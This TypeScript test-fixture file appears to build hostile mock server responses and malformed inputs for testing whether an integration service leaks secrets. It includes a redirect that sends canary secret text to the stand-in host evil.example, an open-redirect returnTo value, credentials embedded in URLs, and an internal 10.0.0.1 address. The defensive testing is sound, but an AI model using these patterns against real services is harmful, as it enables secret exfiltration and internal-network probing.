/**
 * What others say who know every secret: servers that repeat what they were sent, and callers who put things in the wrong place.
 */
import type { Met, Scene } from "./scene.ts";

/** Answers of a server that repeats what it was sent, and all else that it could know. */
export function refusals({ canaries }: Scene): Met[] {
  const echo = ({ body, headers }: Parameters<Met>[0]) => `${body} ${JSON.stringify(headers)} ${canaries.song()}`;
  const json =
    (status: number, members: (echoed: string) => object): Met =>
    (request) =>
      Response.json(members(echo(request)), { status });
  return [
    json(400, (echoed) => ({ error: "invalid_request", error_description: echoed, error_uri: `https://evil.example/?${echoed}` })),
    json(401, (echoed) => ({ error: canaries.song().split(" ")[0], error_description: echoed })),
    json(400, (echoed) => ({ error: echoed })),
    json(200, (echoed) => ({ message: echoed, errors: [echoed], error: { code: echoed } })),
    json(429, (echoed) => ({ error: "slow_down", detail: echoed })),
    (request) => new Response(`<html><title>${echo(request)}</title>`, { status: 502, headers: { "content-type": "text/html" } }),
    (request) => new Response(`<html>${echo(request)}`, { status: 200, headers: { "www-authenticate": 'Bearer error="x"' } }),
    () =>
      new Response(null, {
        status: 307,
        headers: { location: `https://evil.example/${encodeURIComponent(canaries.song().slice(0, 400))}` },
      }),
  ];
}

/** Inputs with a text wherever a procedure may look. */
export function misplaced(typed: string): unknown[] {
  const everywhere = Object.fromEntries(
    [
      "connectionId",
      "integration",
      "returnTo",
      "openerOrigin",
      "confirmation",
      "accountId",
      "expiresAt",
      "url",
      "cursor",
      "id",
      "deliveryId",
    ].map((name) => [name, typed]),
  );
  const lists = { scopes: [typed], requireScopes: [typed], permissions: [typed], integrations: [typed], eventTypes: [typed] };
  return [
    typed,
    [typed],
    { [typed]: typed },
    { ...everywhere, ...lists, subject: { [typed]: typed } },
    { integration: "sandbox", subject: "typo", returnTo: `https://evil.example/${typed}`, ...lists, [typed]: 1 },
    { integration: "sandbox", subject: "typo", scopes: [typed] },
    { integration: "typo", definition: { provider: typed, clientId: typed, clientSecret: typed, scopes: [typed], [typed]: typed } },
    {
      integration: "typo",
      definition: { provider: { tokenEndpoint: `https://user:${typed}@a.example`, [typed]: typed }, clientId: typed },
    },
    { connectionId: "con_doesnotexist0000", ifGeneration: typed, minValiditySeconds: typed },
    { url: `https://user:${typed}@hooks.example.com/?key=${typed}` },
    { url: `http://10.0.0.1/${typed}`, eventTypes: [typed] },
  ];
}
